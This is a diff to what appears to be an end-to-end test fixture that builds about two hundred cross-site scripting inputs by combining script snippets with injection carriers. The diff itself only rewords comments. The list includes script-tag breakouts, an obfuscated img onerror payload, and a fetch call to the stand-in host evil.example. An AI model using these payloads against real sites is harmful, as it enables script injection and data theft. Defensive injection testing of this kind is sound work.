@@ -1,4 +1,4 @@
-/** Ways to run a script; each sets a mark that the journey looks for. */
+/** Scripts that set a mark, which the journey checks. */
 const scripts = [
   'window.__hit=1',
   "top['__hit']=1",
@@ -7,7 +7,7 @@ const scripts = [
   'fetch(`https://evil.example/${__hit=1}`)',
 ];
 
-/** Ways to bring a script, a form, a frame or a cover into a page. `%` is the script. */
+/** Texts that try to inject a script, a form, a frame or an overlay into a page. `%` is the script. */
 const carriers = [
   '<script>%</script>',
   '</script><script>%</script>',
@@ -51,7 +51,7 @@ const carriers = [
   '\u202e<img src=x onerror="%">\u0000\uFEFF]]>--><script>%</script>',
 ];
 
-/** Two hundred words that want to be more than words. */
+/** Two hundred injection attempts. */
 export const hostileTexts: readonly string[] = carriers.flatMap((carrier) =>
   scripts.map((script) => carrier.replaceAll('%', script)),
 );
